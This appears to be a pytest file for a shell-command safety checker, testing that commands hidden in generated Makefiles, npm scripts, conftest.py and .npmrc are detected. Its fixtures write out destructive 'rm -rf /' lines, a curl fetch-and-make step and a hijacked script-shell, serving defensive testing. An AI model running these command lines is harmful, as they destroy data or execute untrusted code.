"""Scripts that a tool reads by itself, where the text made them."""

import pytest

from tests.interposer.judging import effects, judge

pytestmark = pytest.mark.suite("unfold")

SEEN = {
    "makefile": ("printf 'all:\\n\\trm -rf /\\n' > Makefile; make", "delete / @root whole hard"),
    "makefile-on-stdin": ("printf 'all:\\n\\trm -rf /\\n' | make -f -", "delete / @root whole hard"),
    "package-json": ('echo \'{"scripts":{"a":"rm -rf /"}}\' > package.json; npm run a', "delete / @root whole hard"),
    "package-json-set": ("npm pkg set scripts.a='rm -rf /'", "delete / @root whole hard"),
    "conftest": (
        "echo 'import os; os.system(\"rm -rf /\")' > conftest.py; pytest",
        "delete / @root whole hard",
    ),
    "fetched": ("curl -o Makefile x.example; make", "load:fetched-file Makefile via config by Makefile job hard"),
    "npmrc": (
        "echo 'script-shell=/tmp/x' > .npmrc; npm test",
        "run /tmp/x via config by .npmrc: script-shell dangerous",
    ),
}


@pytest.mark.parametrize(("line", "expected"), SEEN.values(), ids=SEEN)
def test_a_script_that_the_text_wrote_for_a_tool_is_read(line, expected) -> None:
    """Its commands are judged as if they stood in the line."""
    assert expected in effects(judge(line))


@pytest.mark.parametrize(
    "line",
    [
        "printf 'all:\\n\\tgcc -o a a.c\\n' > Makefile; make",
        'echo \'{"scripts":{"clean":"rm -rf dist"}}\' > package.json; npm run clean',
        "printf 'import pytest\\n' > conftest.py; pytest",
    ],
)
def test_ordinary_recipes_pass(line) -> None:
    """Nothing in them is dangerous by itself."""
    assert judge(line).verdict == "allow"
